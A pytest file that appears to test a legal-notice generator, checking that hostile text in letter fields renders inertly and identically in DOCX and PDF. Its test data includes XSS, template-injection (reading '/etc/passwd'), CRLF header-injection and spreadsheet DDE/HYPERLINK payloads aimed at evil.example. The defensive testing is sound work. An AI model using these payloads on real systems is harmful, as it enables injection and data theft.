"""Foreign words in any paper stay words: the same in DOCX and PDF, inert in both."""

from __future__ import annotations

import zipfile
from io import BytesIO
from typing import Any

import pytest
from lxml import etree

from records.vocabulary import PaperKind
from takedown.notice.inert import inert
from takedown.papers import docx, pdf
from takedown.papers.blocks import Table
from takedown.papers.html import letter_html
from takedown.papers.registry import Paper, paper
from tests.unit.takedown.papers import samples

HOSTILE = {
    "markup": "<w:p/><script>alert(1)</script>]]>&amp;<b>粗</b>",
    "typst": '#import "x" *粗* _斜_ $1+1$ \\u{41} <label> @ref = 标题 ``` // 注 [x] #eval("1")',
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}${7*7}",
    "controls": "长夜\x00灯\x1b[31m火\u202e倒\x85\u2028行",
    "breaks": "标题\r\nBcc: x@evil.example\r\n\r\n正文",
    "formula": "=HYPERLINK(\"http://evil.example\")+cmd|' /C calc'!A0",
    "long": "长" * 250 + "a" * 250,
    "rare": "堃喆镕𠮷",
    "surrogate": "夜\ud83d",
    "fields": "MERGEFIELD \\* PAGE {NUMPAGES}",
}
FIELDS: dict[PaperKind, tuple[str, ...]] = {
    PaperKind.HOLDER_WITHDRAWAL: ("holder.name", "items.0.title", "items.0.note", "notice_title"),
    PaperKind.SUPERVISION_LETTER: ("addressee", "site.name", "works.0.title", "places.0.page_title", "cause"),
    PaperKind.REFERRAL_REQUEST: ("head.organ.name", "site.name", "act", "head.signer"),
    PaperKind.CRIMINAL_TRANSFER: ("party.name", "course", "items.0.name", "exhibits.0.title"),
    PaperKind.DMCA_NOTICE: ("claimant.name", "works.0.title", "places.0.facts"),
}  # fmt: skip
CASES = [pytest.param(paper(kind), name, id=f"{kind.value}-{name}") for kind in FIELDS for name in HOSTILE]


def hostile(asked: Paper, words: str) -> dict[str, Any]:
    return samples.content(asked, dict.fromkeys(FIELDS[asked.kind], words))


@pytest.mark.parametrize(("asked", "name"), CASES)
def test_hostile_words_are_the_same_words_in_docx_and_pdf(asked: Paper, name: str) -> None:
    letter = asked.letter(hostile(asked, HOSTILE[name]))
    heads = tuple(samples.bare("".join(one.header)) for one in letter.blocks if isinstance(one, Table))
    shown = samples.bare(inert(HOSTILE[name].encode("utf-8", "replace").decode()))

    data = docx.render(letter, samples.AT)

    said = samples.docx_text(data)
    assert said.count(shown) >= len(FIELDS[asked.kind])
    if name != "long":
        # 500 characters part over pages and cells, where two readers order the pieces in their own way
        assert samples.pdf_text(pdf.render(letter, samples.AT), heads) == said
    with zipfile.ZipFile(BytesIO(data)) as parts:
        for part in parts.namelist():
            root = etree.fromstring(parts.read(part))
            assert not [node for node in root.iter() if "hyperlink" in str(node.tag).lower()]
    assert "<script" not in letter_html(letter)


@pytest.mark.parametrize("asked", [paper(kind) for kind in FIELDS], ids=[kind.value for kind in FIELDS])
def test_five_hundred_characters_keep_every_one_in_the_print(asked: Paper) -> None:
    letter = asked.letter(hostile(asked, HOSTILE["long"]))
    said = samples.pdf_text(pdf.render(letter, samples.AT))
    wanted = samples.docx_text(docx.render(letter, samples.AT))
    # heads of tables stand on each page of theirs, so the print may say their characters more than once
    assert said.count("长") == wanted.count("长")
    assert said.count("a") >= wanted.count("a")


ODD = (
    "",
    " ",
    "9999-12-31",
    "0001-01-01T00:00:00",
    "2026-13-45",
    "9999-12-31T23:59:59+08:00",
    "http://[",
    "\x00",
)
KEPT = {"schema", "paper", "kind", "route"}
"""Fields whose values are words of ours: another value is refused when the content is read."""


def with_every_text(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {key: one if key in KEPT else with_every_text(one, text) for key, one in value.items()}
    if isinstance(value, list):
        return [with_every_text(one, text) for one in value]
    return text if isinstance(value, str) else value


@pytest.mark.parametrize("asked", [kind for kind in samples.KINDS if "holder_notice" not in str(kind.id)])
def test_whatever_stands_in_the_fields_the_checklist_names_it_and_the_paper_is_drawn(asked: Paper) -> None:
    for text in ODD:
        content = with_every_text(samples.content(asked), text)
        rows = asked.examine(content, samples.STANDING)
        assert any(row["state"] in ("missing", "invalid") for row in rows)
        assert docx.render(asked.letter(content), samples.AT).startswith(b"PK")


@pytest.mark.parametrize("asked", samples.KINDS)
def test_empty_lists_are_drawn_too_and_named(asked: Paper) -> None:
    if asked.kind is PaperKind.HOLDER_NOTICE:
        pytest.skip("a notice without items is never drafted")
    content = {key: [] if isinstance(value, list) else value for key, value in samples.content(asked).items()}
    rows = asked.examine(content, samples.STANDING)
    assert any(row["state"] == "missing" for row in rows)
    assert pdf.render(asked.letter(content), samples.AT).startswith(b"%PDF")
